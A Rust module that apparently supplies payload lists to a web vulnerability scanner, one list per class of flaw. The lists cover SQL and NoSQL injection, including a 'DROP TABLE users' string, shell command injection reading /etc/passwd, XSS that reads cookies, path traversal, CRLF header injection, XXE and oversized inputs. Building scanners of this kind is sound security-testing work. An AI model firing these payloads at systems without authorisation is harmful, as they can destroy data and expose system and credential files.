use crate::models::{Severity, VulnType};

const SQL_INJECTION: &[&str] = &[
    "' OR '1'='1",
    "' OR 1=1--",
    "admin'--",
    "' UNION SELECT NULL--",
    "\" OR \"\"=\"",
    "1' AND SLEEP(5)--",
    "'; WAITFOR DELAY '0:0:5'--",
    "' OR 'x'='x",
    "1 OR 1=1",
    "'; DROP TABLE users--",
];

const NOSQL_INJECTION: &[&str] = &[
    "{\"$gt\": \"\"}",
    "{\"$ne\": null}",
    "{\"$regex\": \".*\"}",
    "' || '1'=='1",
    "{\"$where\": \"sleep(5000)\"}",
    "[$ne]=1",
    "{\"$or\": [{}, {\"a\": \"a\"}]}",
    "\";return true;var x=\"",
];

const COMMAND_INJECTION: &[&str] = &[
    "; ls -la",
    "| whoami",
    "; cat /etc/passwd",
    "$(whoami)",
    "`id`",
    "& dir",
    "| sleep 5",
    "; ping -c 5 127.0.0.1",
    "&& echo cmdi-probe",
];

const XSS: &[&str] = &[
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><script>alert(document.cookie)</script>",
    "<svg onload=alert(1)>",
    "javascript:alert(1)",
    "'-alert(1)-'",
    "<body onload=alert(1)>",
    "<iframe src=\"javascript:alert(1)\">",
];

const PATH_TRAVERSAL: &[&str] = &[
    "../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "....//....//....//etc/passwd",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..%252f..%252f..%252fetc%252fpasswd",
    "/etc/passwd%00",
    "/proc/self/environ",
];

const HEADER_INJECTION: &[&str] = &[
    "test\r\nX-Injected: probe",
    "test\r\nSet-Cookie: injected=1",
    "test%0d%0aSet-Cookie:%20injected=1",
    "test\nLocation: https://evil.example",
    "%0d%0aX-Forwarded-Host:%20evil.example",
];

const RATE_LIMIT: &[&str] = &[
    "probe-1",
    "probe-2",
    "probe-3",
    "probe-4",
    "probe-5",
];

const CONTENT_TYPE: &[&str] = &[
    "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>",
    "{\"test\": \"test\"}",
    "<html><body>probe</body></html>",
    "%PDF-1.4 probe",
    "------WebKitFormBoundary\r\nContent-Disposition: form-data; name=\"probe\"\r\n\r\nprobe",
];

const MALFORMED_INPUT: &[&str] = &[
    "{\"unclosed\": ",
    "null",
    "undefined",
    "NaN",
    "%%%%%",
    "\u{0000}\u{0001}\u{0002}",
    "[[[[[[[[[[",
    "\u{1d54a}\u{1d565}\u{1d563}\u{1d552}\u{1d55f}\u{1d558}\u{1d556}",
];

/// Ordered payload set for one vulnerability class. Rebuilt identically on
/// every call; the oversized entries are generated rather than stored.
pub fn payloads_for(vuln_type: VulnType) -> Vec<String> {
    let fixed: &[&str] = match vuln_type {
        VulnType::SqlInjection => SQL_INJECTION,
        VulnType::NoSqlInjection => NOSQL_INJECTION,
        VulnType::CommandInjection => COMMAND_INJECTION,
        VulnType::Xss => XSS,
        VulnType::PathTraversal => PATH_TRAVERSAL,
        VulnType::HeaderInjection => HEADER_INJECTION,
        VulnType::RateLimitBypass => RATE_LIMIT,
        VulnType::ContentTypeManipulation => CONTENT_TYPE,
        VulnType::MalformedInput => MALFORMED_INPUT,
        VulnType::LargePayload => {
            return vec![
                "A".repeat(10_000),
                "A".repeat(50_000),
                format!("{{\"data\": \"{}\"}}", "B".repeat(20_000)),
                "x=".to_string() + &"C".repeat(30_000),
                "A".repeat(100_000),
            ];
        }
    };
    fixed.iter().map(|p| p.to_string()).collect()
}

pub fn severity_for(vuln_type: VulnType) -> Severity {
    vuln_type.severity()
}
